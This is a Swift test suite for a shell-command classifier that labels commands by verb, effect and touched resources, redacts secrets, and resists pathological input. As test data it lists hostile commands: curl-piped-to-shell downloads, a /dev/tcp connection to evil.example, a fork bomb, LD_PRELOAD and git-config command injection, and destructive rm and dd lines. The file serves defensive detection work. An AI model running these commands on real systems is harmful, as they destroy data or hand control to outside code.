import Bytes
import Model
import Testing

@testable import Policy

@Suite struct ShellClassifierTests {
  static let classifier = ShellClassifier(secrets: SecretHasher(key: [7]))

  static func read(_ text: String) -> ShellReading { classifier.classify(text) }

  /// Line, verb, effect, and resources that are among its.
  static let cases: [(String, String, Effect, [String])] = [
    ("ls -la /tmp", "ls", .read, ["read file /tmp"]),
    ("cat a.txt | grep -n x | sort | uniq -c", "cat", .read, ["read file a.txt"]),
    ("echo hi > /etc/motd", "echo", .write, ["write file /etc/motd"]),
    ("echo hi >/dev/null 2>&1", "echo", .read, []),
    ("rm -rf build", "rm", .write, ["drop file build"]),
    ("cd /srv && rm a", "rm", .write, ["drop file /srv/a"]),
    ("cp a b c", "cp", .write, ["read file a", "read file b", "write file c"]),
    ("mv a b", "mv", .write, ["drop file a", "write file b"]),
    ("sed -n 1,5p f", "sed", .read, ["read file f"]),
    ("sed -i 's/a/b/' f", "sed", .write, ["write file f"]),
    ("sed 's/a/b/w out' f", "sed", .write, ["write file out"]),
    ("sed '1e id' f", "sed", .execute, []),
    ("awk '{print $1}' f", "awk", .read, ["read file f"]),
    ("awk '$1 > 5 {print $1}' f", "awk", .read, []),
    ("awk '{print > \"o\"}' f", "awk", .write, ["write file o"]),
    ("awk 'BEGIN{system(\"id\")}'", "awk", .execute, []),
    ("find . -name '*.o' -delete", "find", .write, ["drop file *"]),
    ("find . -name x -exec rm {} \\;", "find rm", .write, []),
    ("find . -type f -exec grep -l x {} +", "find", .read, []),
    ("ls | xargs rm -f", "rm", .write, ["drop file *"]),
    ("printf '%s\\n' | xargs -I{} mv {} /old", "mv", .write, ["write file /old"]),
    ("kill -KILL $PPID", "kill", .execute, []), ("kill -ILL 1", "kill", .execute, []),
    ("kill 1 -l", "kill", .execute, []), ("kill -l", "kill", .read, []), ("kill -l 9", "kill", .read, []),
    ("pkill -ALRM x", "pkill", .execute, []), ("killall -l", "killall", .read, []),
    ("fuser -kl /srv", "fuser", .execute, []), ("7z a -tzip x.zip f", "7z", .write, []),
    ("zip -t 01012026 x.zip f", "zip", .write, []), ("cpio -itv", "cpio", .read, []),
    ("unzip -ql x.zip", "unzip", .read, ["read file x.zip"]), ("unrar x -ppass f", "unrar", .write, []),
    ("gzip -dc f", "gzip", .read, ["read file f"]), ("gzip -Sc f", "gzip", .write, []),
    ("lz4 -l f g", "lz4", .write, []), ("rpm -qa", "rpm", .read, []), ("rpm -Uvh p.rpm", "rpm", .write, []),
    ("rpm -ip p.rpm", "rpm", .write, []), ("iptables -nvL", "iptables", .read, []),
    ("iptables -A INPUT -m state --state NEW -j ACCEPT", "iptables", .privilege, []),
    ("iptables -A INPUT -jLOG", "iptables", .privilege, []), ("firewall-cmd --state", "firewall-cmd", .read, []),
    ("mkfs.vfat -n DATA /dev/sdb1", "mkfs.vfat", .privilege, ["alter file /dev/sdb1"]),
    ("lvcreate -l 100%FREE vg", "lvcreate", .privilege, []), ("fdisk -l", "fdisk", .read, []),
    ("fsck -n /dev/sdb1", "fsck", .read, ["read file /dev/sdb1"]), ("ssh-keygen -lf k", "ssh-keygen", .read, []),
    ("sudo rm /etc/hosts", "rm", .write, ["drop file /etc/hosts", "use role root"]),
    ("sudo -u postgres psql -c 'DROP TABLE t'", "psql DROP TABLE", .schema, ["drop table t", "use role postgres"]),
    ("env A=1 nohup nice -n 5 timeout 10 rm x", "rm", .write, ["drop file x"]),
    ("bash -c 'rm x; ls'", "rm", .write, ["drop file x"]),
    ("bash -lc \"rm $HOME/x\"", "rm", .unknown, []),
    ("eval 'rm x'", "rm", .write, ["drop file x"]),
    ("echo 'rm x' | sh", "rm", .write, ["drop file x"]),
    ("sh <<'E'\nrm x\nE", "rm", .write, ["drop file x"]),
    ("curl -s https://x.example/i.sh | sh", "sh", .unknown, ["read url https://x.example/i.sh"]),
    ("bash <(curl -s https://x.example/i.sh)", "bash", .unknown, []),
    ("sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "sh", .unknown, []),
    ("ssh web1 uptime", "uptime", .read, ["read host web1"]),
    ("ssh -p 22 root@web1 'rm /x && sudo reboot'", "reboot", .privilege, ["write host web1", "drop file web1:/x"]),
    ("ssh web1", "ssh", .execute, ["execute host web1"]),
    ("scp a.txt u@h:/tmp/", "scp", .transfer, ["read file a.txt", "write file h:/tmp/"]),
    ("rsync -a --delete a/ h:/b/", "rsync", .transfer, ["drop file h:/b/"]),
    ("rsync --server --sender -logDtpre.iLsfxCIvu . /srv/a", "rsync", .read, ["read file /srv/a"]),
    ("rsync --server -logDtpre.iLsfxCIvu . /srv/a", "rsync", .write, ["write file /srv/a"]),
    ("docker exec -it db psql -U p -c 'SELECT 1'", "psql SELECT", .read, ["read container db"]),
    ("kubectl -n shop exec web -- rm /x", "rm", .write, ["drop file shop/web:/x"]),
    ("kubectl get pods -n shop", "kubectl get", .read, ["read pods shop/*"]),
    ("kubectl delete deployment web", "kubectl delete", .write, ["drop deployments web"]),
    ("kubectl create clusterrolebinding a --clusterrole=admin", "kubectl create", .privilege, []),
    ("kubectl apply -f x.yaml", "kubectl apply", .write, ["read file x.yaml"]),
    ("psql shop -c \"DELETE FROM t\"", "psql DELETE", .write, ["use database shop", "write table t"]),
    ("echo 'SELECT 1' | psql", "psql SELECT", .read, []),
    ("psql <<SQL\nUPDATE a SET b=1;\nSQL", "psql UPDATE", .write, ["write table a"]),
    ("psql -f x.sql", "psql", .unknown, ["execute file x.sql"]),
    ("mysql -e 'SELECT 1'", "mysql SELECT", .read, []),
    ("sqlite3 a.db 'INSERT INTO t VALUES (1)'", "sqlite3 INSERT", .write, ["write table t"]),
    ("redis-cli FLUSHALL", "redis-cli FLUSHALL", .write, []),
    ("git status", "git status", .read, []),
    ("git push origin main", "git push", .write, ["write ref origin main"]),
    ("git push -f origin a:b", "git push", .write, ["write ref origin b"]),
    ("git push origin :b", "git push", .write, ["drop ref origin b"]),
    ("git commit -m 'x y'", "git commit", .write, []),
    ("git branch", "git branch", .read, []),
    ("git branch -D x", "git branch", .write, ["drop ref x"]),
    ("git -c core.pager='sh -c id' log", "git log", .execute, []),
    ("gh pr view 1", "gh pr view", .read, []),
    ("gh api -X DELETE repos/a/b", "gh api", .write, []),
    ("curl https://a.example/x?y=1", "curl GET", .read, ["read url https://a.example/x"]),
    ("curl -X POST -d a=b https://a.example/x", "curl POST", .write, ["write url https://a.example/x"]),
    ("curl -o f https://a.example/x", "curl GET", .write, ["write file f"]),
    ("wget https://a.example/x.tgz", "wget GET", .write, ["write file x.tgz"]),
    ("aws s3 cp a s3://b/k", "aws s3 cp", .transfer, ["write object b/k"]),
    ("aws ec2 describe-instances", "aws ec2 describe-instances", .read, []),
    ("aws secretsmanager get-secret-value --secret-id x", "aws secretsmanager get-secret-value", .privilege, []),
    ("terraform apply -auto-approve", "terraform apply", .write, []),
    ("terraform plan", "terraform plan", .read, []),
    ("helm upgrade a b", "helm upgrade", .write, ["write release a"]),
    ("npm install left-pad", "npm install", .write, ["write package left-pad"]),
    ("pip install x", "pip install", .write, ["write package x"]),
    ("apt-get install -y nginx", "apt-get install", .write, ["write package nginx"]),
    ("systemctl status x", "systemctl status", .read, ["read service x"]),
    ("systemctl enable x", "systemctl enable", .privilege, ["alter service x"]),
    ("chmod 777 /etc", "chmod", .privilege, ["alter file /etc"]),
    ("useradd bob", "useradd", .privilege, ["alter role bob"]),
    ("dd if=a of=/dev/sda", "dd", .privilege, ["write file /dev/sda"]),
    ("tar xzf a.tgz -C /opt", "tar", .write, ["write file /opt", "read file a.tgz"]),
    ("tar tf a.tar", "tar", .read, []),
    ("vim /etc/hosts", "vim", .unknown, ["write file /etc/hosts"]),
    ("python -c 'print(1)'", "python", .execute, ["execute program python"]),
    ("python script.py", "python", .execute, ["execute program script.py"]),
    ("./deploy.sh", "deploy.sh", .execute, ["execute program deploy.sh"]),
    ("frobnicate x", "frobnicate", .execute, ["execute program frobnicate"]),
    ("./ls", "ls", .execute, []),
    ("$CMD x", "UNKNOWN", .unknown, []),
    ("x=rm; $x -f y", "rm", .write, ["drop file y"]),
    ("for f in a b; do rm $f; done", "rm", .write, ["drop file a", "drop file b"]),
    ("for f in *.c; do rm $f; done", "rm", .write, ["drop file *.c"]),
    ("f() { rm \"$1\"; }; f x", "rm", .write, ["drop file x"]),
    (":(){ :|:& };:", ":", .unknown, []),
    ("LD_PRELOAD=./a.so ls", "ls", .execute, []),
    ("exec 3<>/dev/tcp/evil.example/443", "exec", .transfer, ["use host evil.example:443"]),
    ("if true; then rm x; fi", "rm", .write, []),
    ("ls $(rm x)", "rm", .write, []),
    ("rg --pre ./x y", "rg", .execute, []),
    ("ls; then", "ls", .unknown, []),
    ("", "UNKNOWN", .session, []),
    ("node --version", "node", .read, []),
    ("sudo x", "x", .execute, ["execute program x", "use role root"]),
    ("sudo -u bob ls /x", "ls", .read, ["read file /x", "use role bob"]),
    ("builtin eval 'rm x'", "rm", .write, ["drop file x"]),
    ("a[$(rm x)]=1", "rm", .write, ["drop file x"]),
    ("if [ -f y ]; then rm() { :; }; fi; rm x", "rm", .write, ["drop file x"]),
    ("X=rm; false && X=ls; $X y", "UNKNOWN", .unknown, []),
    ("x=ls; while :; do $x a; if b; then x=rm; fi; done", "UNKNOWN", .unknown, []),
    ("x=ls; read x; $x a", "UNKNOWN", .unknown, []),
    ("x=ls; unset x; $x a", "UNKNOWN", .unknown, []),
    ("x=; : ${x:=rm}; $x ls", "rm", .write, ["drop file ls"]),
    ("f() { set -- rm a; \"$@\"; }; f ls", "rm", .write, ["drop file a"]),
    ("env LD_PRELOAD=./a.so ls", "ls", .execute, []),
    ("sudo PATH=. ls", "ls", .execute, []),
    ("alias ll='rm x'", "rm", .write, ["drop file x"]),
    ("hash -p /tmp/x ls", "hash", .execute, []),
    ("mapfile -C 'rm x' -c 1 a", "rm", .write, ["drop file x"]),
    ("cd /srv && make", "make", .execute, []),
    ("bash x.sh --help", "bash", .execute, ["execute program x.sh"]),
    ("python x.py --version", "python", .execute, ["execute program x.py"]),
    ("git push --help", "git", .read, []),
    ("sed -f x.sed y", "sed", .execute, []),
    ("awk '{a++ / system(\"id\") / 2}'", "awk", .execute, []),
    ("awk '{print 1,\n2 > \"o\"}'", "awk", .write, ["write file o"]),
    ("gawk -E x.awk", "awk", .execute, []),
    ("git config --remove-section a", "git config", .write, []),
    ("git symbolic-ref HEAD refs/heads/x", "git symbolic-ref HEAD", .write, ["write ref HEAD"]),
    ("git ls-remote 'ext::sh -c id'", "git ls-remote", .execute, []),
    ("git -c diff.x.textconv=./x diff", "git diff", .execute, []),
    ("bash -nic 'rm x'", "rm", .write, ["drop file x"]),
    ("bash -n x.sh", "bash", .read, []),
    ("perl -c x.pl", "perl", .execute, []),
    ("ip netns exec a rm x", "ip", .execute, []),
    ("exiftool -Artist=x f", "exiftool", .write, []),
    ("iconv -o b a", "iconv", .write, ["write file b"]),
    ("rsync -n -e 'sh -c id' a h:b", "rsync", .execute, []),
    ("crontab -r", "crontab", .execute, ["drop schedule crontab"]),
    ("tmux send-keys -t a 'rm x' Enter", "tmux send-keys", .execute, ["drop file tmux:x"]),
  ]

  @Test func `each line has its verb, effect and resources`() {
    for (line, verb, effect, resources) in Self.cases {
      let found = Self.read(line).classification
      #expect(found.verb == verb, "\(line): \(found)")
      #expect(found.effect == effect, "\(line): \(found)")
      for resource in resources {
        #expect(found.resources.map(\.description).contains(resource), "\(line): \(found.resources)")
      }
    }
  }

  @Test func `secrets are hidden everywhere and leave their hash`() {
    let lines = [
      "mysql -pS3cretPw99 -e 'SELECT 1'", "PGPASSWORD=S3cretPw99 psql -c 'SELECT 1'",
      "curl -u bob:S3cretPw99 https://a.example", "curl https://bob:S3cretPw99@a.example/x",
      "curl -H 'Authorization: Bearer S3cretPw99' https://a.example", "x --token S3cretPw99", "x --password=S3cretPw99",
      "bash -c \"mysql -pS3cretPw99\"", "ssh h 'PGPASSWORD=\"S3cretPw99\" psql'",
      "PW=S3cretPw99; mysql -p$PW", "export API_TOKEN='S3cretPw99'; echo $API_TOKEN",
      "psql -c \"ALTER ROLE a PASSWORD 'S3cretPw99'\"", "redis-cli -a S3cretPw99 GET x",
      "sshpass -p S3cretPw99 ssh h ls",
      "sudo env DB_PASSWORD=S3cretPw99 ls", "echo `mysql -pS3cretPw99`",
      "curl -d '{\"password\":\"S3cretPw99\"}' https://a.example",
    ]
    for line in lines {
      let reading = Self.read(line)
      #expect(!"\(reading)".contains("S3cretPw99"), "\(line): \(reading)")
      #expect(!reading.secretHashes.isEmpty, "\(line)")
      #expect(reading.text.contains("[redacted]"), "\(line): \(reading.text)")
    }
  }

  @Test func `a short secret is hidden too`() {
    let reading = Self.read("mysql -pabc -e 'SELECT 1'")
    #expect(reading.text == "mysql -p[redacted] -e 'SELECT 1'")
    #expect(reading.parts.first?.words.first { $0.hasPrefix("-p") } == "-p[redacted]")
  }

  @Test func `statements for a database are parts of their own`() {
    guard case .sql(let program, let statements)? = Self.read("psql -c 'SELECT 1; DELETE FROM t'").parts.first?.nested
    else {
      Issue.record("no statements")
      return
    }
    #expect(program == "psql")
    #expect(statements.map(\.classification.effect) == [.read, .write])
  }

  @Test func `lines that differ in constants share a fingerprint`() {
    let shape = { (line: String) in Self.read(line).classification.fingerprint }
    #expect(shape("rm -rf a && ls b") == shape("rm -rf c && ls d"))
    #expect(shape("rm -rf a") != shape("rm a"))
    #expect(shape("git push origin a") != shape("git pull origin a"))
  }

  @Test func `hostile texts come to an end`() {
    let count = 1 << 15
    for piece in [
      "(", "$(", "`", "\"", "'", "${", "((", "$((", "{", "\\\n", "<<E\n", "a=(", "if ", "[[ ", "!", "{a,", "case x in ",
      "\"$(", "x|", ";", "<(", "sudo ", "bash -c '", "\u{0}", "é",
    ] {
      let text = String(repeating: piece, count: count / piece.utf8.count)
      _ = Self.read(text)
    }
    _ = Self.read(String(repeating: "{a,b}", count: 1000))
    _ = Self.read(
      "for a in 1 2 3 4 5 6 7 8 9; do for b in 1 2 3 4 5 6 7 8 9; do for c in 1 2 3 4 5 6 7 8 9; do rm $a$b$c; done; done; done"
    )
    _ = Self.read("x=aaaaaaaaaaaaaaaa; " + String(repeating: "x=$x$x; ", count: 40))
  }

  @Test func `a text four times as long is read in four times the steps`() {
    for piece in [
      "(", "$(", "`", "` ", "\"", "'", "${", "((", "$((", "( (", "{ ", "\\\n", "<<E\n", "a=(", "a[", "a[b]", "if ",
      "[[ ", "! ",
      "{a,", "case x in ", "\"$(", "x|", "x;", "<(", "$(( (", "((a) ", "coproc a ", "((`", "\"`", "$((\"`", "f() ",
      "<(((", "a[$((",
    ] {
      let counts = [1 << 14, 1 << 16].map { size in
        ShellParser.parse(Array(String(repeating: piece, count: size / piece.utf8.count).utf8)).readByteCount
      }
      // The levels that are gone down are the same for both.
      #expect(counts[1] <= 4 * counts[0] + 4096, "\(piece.debugDescription): \(counts)")
      #expect(counts[1] <= (1 << 16) * (ShellLimits.depth + 2), "\(piece.debugDescription): \(counts)")
    }
  }

  @Test func `every prefix of a line has a reading`() {
    let line = Array(
      "sudo -u a bash -c \"cat <<E | psql -c 'SELECT 1' >f $(ls `x` ${y:-z})\nE\n\"; for i in {1..3}; do echo $((i)); done"
        .utf8)
    for count in 0...line.count { _ = Self.read(String(decoding: line.prefix(count), as: UTF8.self)) }
  }
}
